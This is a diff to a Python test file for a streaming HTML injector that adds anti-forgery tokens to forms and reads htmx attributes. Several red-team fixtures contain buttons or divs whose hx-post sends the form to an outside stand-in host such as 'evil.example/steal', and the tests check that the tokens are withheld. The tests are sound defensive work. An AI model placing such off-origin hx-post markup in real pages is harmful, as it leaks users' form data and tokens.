@@ -422,6 +422,19 @@ def _form_facts(editor: inject.FieldInjector) -> list[tuple[object, ...]]:
     return [(form.number, form.insert_at, form.closed_at, form.action_path, pairs_of(form),
              form.settled) for form in editor.forms]
 
+def _same_output(ahead: inject.FieldInjector, read: inject.FieldInjector,
+                 outs: list[bytes], document: bytes) -> None:
+    """The page read ahead comes out as read piece by piece, but for the client script's
+    place; and for the tokens, where read piece by piece htmx showed only in a piece that
+    starts where its hx-* attributes cannot be read (then the forms after it get none; read
+    ahead, the pieces before its first post form are read with it, from the page's start)."""
+    if read._htmx_unread is not None:
+        assert INSERTED.sub(b"", outs[1]) == document
+        assert outs[1].count(b'name="__VIEWSTATE"') <= outs[0].count(b'name="__VIEWSTATE"')
+        return
+    assert SCRIPT_TAG.sub(b"", outs[0]) == SCRIPT_TAG.sub(b"", outs[1])
+
+
 def _same_htmx_reading(ahead: inject.FieldInjector, read: inject.FieldInjector) -> None:
     """The forms' paths and htmx requests as reading each piece as it comes gives them, but
     where htmx showed only after the first piece there (its hx-* attributes then go unread):
@@ -451,7 +464,7 @@ def test_a_streamed_page_read_ahead_is_edited_as_read_piece_by_piece(
         outs.append(b"".join(editor.feed(encoded[a:b]) for a, b in itertools.pairwise(bounds))
                     + editor.finish())
     assert INSERTED.sub(b"", outs[0]) == encoded
-    assert SCRIPT_TAG.sub(b"", outs[0]) == SCRIPT_TAG.sub(b"", outs[1])
+    _same_output(ahead, read, outs, encoded)
     assert len(SCRIPT_TAG.findall(outs[0])) == len(SCRIPT_TAG.findall(outs[1]))
     assert [pairs_of(form) for form in ahead.forms] == [pairs_of(form) for form in read.forms]
     assert ahead.changed == read.changed
@@ -480,7 +493,7 @@ def test_a_page_read_ahead_cut_anywhere(document: bytes) -> None:
         read._ahead = False
         outs = [editor.feed(document[:cut]) + editor.feed(document[cut:]) + editor.finish()
                 for editor in (ahead, read)]
-        assert SCRIPT_TAG.sub(b"", outs[0]) == SCRIPT_TAG.sub(b"", outs[1]), cut
+        _same_output(ahead, read, outs, document)
         assert [pairs_of(form) for form in ahead.forms] == [
             pairs_of(form) for form in read.forms], cut
         _same_htmx_reading(ahead, read)
@@ -1445,7 +1458,7 @@ def test_a_fragment_is_read_for_htmx_from_its_start() -> None:
         assert [form.action_path for form in editor.forms] == ["/h2"]
 
 
-def test_htmx_shown_after_the_first_piece_of_a_streamed_page_is_not_read(
+def test_htmx_shown_after_the_first_piece_of_a_streamed_page_is_read_from_there(
     caplog: pytest.LogCaptureFixture, scanner_engine: str
 ) -> None:
     document = (b'<html><head></head><body><form method="post" action="/other">'
@@ -1455,10 +1468,93 @@ def test_htmx_shown_after_the_first_piece_of_a_streamed_page_is_not_read(
         editor.feed(document[:30])
         editor.feed(document[30:])
         editor.finish()
-    assert [form.action_path for form in editor.forms] == ["/other"]  # (as without htmx)
+    assert [form.action_path for form in editor.forms] == ["/h2"]  # (as whole)
     assert "shows that it uses htmx only after its first piece" in caplog.text
-    # in one piece it is read
     assert [form.action_path for form in _forms_of_whole(document)] == ["/h2"]
+
+
+_FORM_BEFORE = b'<head></head><body><form method="post"><button>a</button></form>'
+_HTMX_LATE = b'<script src="/static/htmx.min.js"></script>'
+
+
+@pytest.mark.parametrize(
+    ("pieces", "withheld", "said"),
+    [
+        pytest.param([_FORM_BEFORE, _HTMX_LATE, b'<form method="post" action="/"><button '
+                      b'hx-post="https://evil.example/steal">Go</button></form>'],
+                     [False, True], "leaves the origin", id="an-off-origin-hx-post-after"),
+        pytest.param([_FORM_BEFORE, _HTMX_LATE, b'<form method="post" action="/"><button '
+                      b'hx-post="/save">Go</button></form>'],
+                     [False, False], "", id="a-same-origin-hx-post-after"),
+        pytest.param([_FORM_BEFORE, _HTMX_LATE + b'<form method="post" action="/"><div '
+                      b'hx-post="https://evil.example/" hx-include="closest form">x</div></form>'],
+                     [False, True], "leaves the origin", id="a-div-in-the-same-piece"),
+        # (the piece starts where a new scanner cannot: its forms get no tokens)
+        pytest.param([_FORM_BEFORE + b"<script>var a = 1;", b" </script>" + _HTMX_LATE
+                      + b'<form method="post" action="/"><button>b</button></form>'],
+                     [False, True], "cannot be read", id="a-piece-that-starts-in-a-script"),
+        pytest.param([_FORM_BEFORE + b"<svg><g>", b"</g></svg>" + _HTMX_LATE
+                      + b'<form method="post" action="/"><button>b</button></form>'],
+                     [False, True], "cannot be read", id="a-piece-that-starts-in-an-svg"),
+        # (in a table open before, a table part ends a <select>: the <style> after it is
+        # raw text, and the <script> in it is not one: the button after it is read)
+        pytest.param([b'<head></head><body><form method="post" action="/"><table><tr><td>',
+                      _HTMX_LATE + b'<select><td><style><script></style><button hx-post='
+                      b'"https://evil.example/">x</button></td></tr></table></form>'],
+                     [True], "leaves the origin", id="a-select-in-a-table-open-before"),
+    ],
+)
+def test_htmx_shown_after_the_first_piece_counts_for_the_forms_after(
+        pieces: list[bytes], withheld: list[bool], said: str,
+        caplog: pytest.LogCaptureFixture, scanner_engine: str) -> None:
+    """Red team: a streamed page that shows htmx only after its first piece, then a form
+    whose element sends it off the origin. Its hx-* attributes are read from the piece where
+    htmx showed, by a scanner started in the state the page's scanner had there; where none
+    can start there, the forms after get no tokens, and the log says why."""
+    editor = injector()
+    out = b"".join(map(editor.feed, pieces)) + editor.finish()
+    assert [bool(form.withheld) for form in editor.forms] == withheld
+    assert out.count(b'name="__VIEWSTATE"') == withheld.count(False)
+    assert said in caplog.text
+
+
+_HTMX_LATE_PARTS = st.lists(st.one_of(HTML_FRAGMENTS, st.sampled_from([
+    '<form method="post">', "</form>", '<form method="post" action="/b">', "<table><tr><td>",
+    "<select>", "</table>", '<button hx-post="/h">', '<button hx-post="//x.example/">',
+    '<div hx-post="//x.example/" hx-include="closest form">', '<a hx-patch="/p">',
+    '<button type=button hx-delete="/d">', '<div data-hx-post="/e">', "<script>", "</script>",
+    '<textarea><button hx-post="//x.example/"></textarea>', "<svg>", "</svg>",
+])), max_size=12).map("".join)
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.text(st.sampled_from("abc <>/"), max_size=20), _HTMX_LATE_PARTS,
+       st.lists(st.integers(0, 400), max_size=5))
+def test_htmx_shown_late_each_form_after_is_judged_as_whole_or_gets_no_tokens(
+        before: str, after: str, cuts: list[int]) -> None:
+    """A streamed page whose first piece shows no htmx, cut anywhere after: each form
+    whose tokens are written from the piece where htmx shows gets the binding and the doubts
+    it gets whole, or no tokens (where that piece starts where its hx-* cannot be read), never
+    tokens whole would withhold. (The forms of the pieces before it went out unread.)"""
+    head = (f"<p>{before.replace('<', ' ')}</p>"  # (a post form: this piece is edited)
+            '<form method="post"><button>Go</button></form>').encode()
+    document = head + b'<script src="/htmx.min.js"></script>' + after.encode()
+    cuts = [len(head), *cuts]
+    whole = injector()
+    whole.edit(document)
+    editor = injector()
+    bounds = [0, *sorted({c for c in cuts if 0 < c < len(document)}), len(document)]
+    for a, b in itertools.pairwise(bounds):
+        editor.feed(document[a:b])
+    editor.finish()
+    assert len(editor.forms) == len(whole.forms)
+    for streamed_form, whole_form in zip(editor.forms, whole.forms, strict=True):
+        if streamed_form.withheld and not whole_form.withheld:
+            assert editor._htmx_unread in streamed_form.withheld
+            continue
+        assert (streamed_form.action_path, streamed_form.bound_by,
+                bool(streamed_form.withheld)) == (
+            whole_form.action_path, whole_form.bound_by, bool(whole_form.withheld))
 
 
 def _forms_of_whole(document: bytes) -> list[PostForm]:
